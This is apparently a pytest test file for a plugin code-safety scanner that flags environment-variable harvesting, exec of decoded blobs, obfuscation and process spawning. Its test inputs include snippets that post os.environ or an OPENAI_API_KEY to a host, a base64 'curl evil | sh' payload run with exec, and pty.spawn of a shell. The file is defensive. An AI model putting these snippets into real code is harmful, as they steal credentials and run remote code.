"""Plugin code heuristics: the shapes of credential theft and hidden payloads are found."""

from __future__ import annotations

import base64
import os
from pathlib import Path

import pytest

from clawkeep.plugins.code_safety import scan_plugins, scan_source


def _rules(source: str) -> set[str]:
    return {hit.rule for hit in scan_source(source, Path("p.py"))}


@pytest.mark.parametrize(
    "source",
    [
        "import os, requests\nrequests.post('https://x', json=dict(os.environ))\n",
        "import os as o\nimport urllib.request\nurllib.request.urlopen('https://x?k=' + o.getenv('K'))\n",
        "from os import environ as E\nfrom http.client import HTTPSConnection\nHTTPSConnection('x').request('POST', '/', str(E))\n",
        "import os\nimport socket\ns = socket.socket(); s.send(os.environ['OPENAI_API_KEY'].encode())\n",
        "from os import getenv\nfrom urllib import request\nrequest.urlopen('https://x', getenv('T'))\n",
    ],
)
def test_env_read_plus_network_is_critical_env_harvesting(source: str) -> None:
    hits = scan_source(source, Path("p.py"))
    harvest = [h for h in hits if h.rule == "env_harvesting"]
    assert harvest and harvest[0].severity == "critical"
    assert harvest[0].check_id == "plugins.code_safety.env_harvesting"


def test_env_read_alone_or_network_alone_is_not_harvesting() -> None:
    assert "env_harvesting" not in _rules("import os\nHOME = os.environ.get('HOME')\n")
    assert "env_harvesting" not in _rules("import httpx\nhttpx.get('https://example.org')\n")


def test_words_in_comments_and_strings_are_not_findings() -> None:
    source = "# eval(os.environ) then requests.post\nDOC = 'subprocess.run exec eval os.environ'\n"
    assert _rules(source) == set()


@pytest.mark.parametrize(
    "source",
    [
        "eval(input())\n",
        "exec(compile('x=1', 'f', 'exec'))\n",
        "__import__('o' + 's')\n",
        "import importlib\nimportlib.import_module(name)\n",
        "import builtins\nbuiltins.exec('1')\n",
    ],
)
def test_dynamic_code_is_found(source: str) -> None:
    assert "dynamic_exec" in _rules(source)


def test_decoding_a_blob_and_executing_it_is_critical() -> None:
    blob = base64.b64encode(b"import os; os.system('curl evil | sh')" * 8).decode()
    hits = scan_source(f"import base64\nexec(base64.b64decode('{blob}'))\n", Path("p.py"))
    assert {h.rule for h in hits} >= {"dynamic_exec", "obfuscation"}
    assert [h.severity for h in hits if h.rule == "dynamic_exec"] == ["critical"]


def test_hex_escape_soup_is_obfuscation() -> None:
    escaped = "".join(f"\\x{b:02x}" for b in b"import os; os.system('id')" * 3)
    assert "obfuscation" in _rules(f"s = '{escaped}'\n")


@pytest.mark.parametrize(
    "source",
    [
        "import subprocess\nsubprocess.run(['ls'])\n",
        "import os\nos.system('id')\n",
        "from os import popen as p\np('id')\n",
        "import os\nos.execvp('sh', ['sh'])\n",
        "import asyncio\nasyncio.create_subprocess_shell('id')\n",
        "import pty\npty.spawn('/bin/sh')\n",
    ],
)
def test_process_spawning_is_found(source: str) -> None:
    assert "subprocess" in _rules(source)


def test_benign_plugin_has_no_findings() -> None:
    source = (
        "import json\nfrom dataclasses import dataclass\n\n@dataclass\nclass Tool:\n"
        "    name: str\n\ndef run(args: dict) -> str:\n    return json.dumps(args)\n"
    )
    assert _rules(source) == set()


def test_unparseable_file_is_a_finding_not_a_crash() -> None:
    assert _rules("def broken(:\n") == {"unparseable"}
    assert _rules("(" * 5000 + ")" * 5000) <= {"unparseable"}


def test_scan_walks_extensions_and_does_not_follow_symlinks(tmp_path: Path) -> None:
    ext = tmp_path / "extensions"
    (ext / "a" / "sub").mkdir(parents=True)
    (ext / "a" / "sub" / "steal.py").write_text(
        "import os, requests\nrequests.post('u', os.environ)\n"
    )
    (ext / "a" / "ok.py").write_text("x = 1\n")
    outside = tmp_path / "outside.py"
    outside.write_text("import os, socket\nsocket.socket().send(os.environ['K'])\n")
    os.symlink(outside, ext / "a" / "link.py")
    hits = scan_plugins(ext)
    by_rule = {(h.rule, h.path.name) for h in hits}
    assert ("env_harvesting", "steal.py") in by_rule
    assert ("symlink", "link.py") in by_rule
    assert ("env_harvesting", "link.py") not in by_rule  # the outside file was not read


def test_missing_extensions_dir_is_nothing_to_scan(tmp_path: Path) -> None:
    assert scan_plugins(tmp_path / "nope") == []
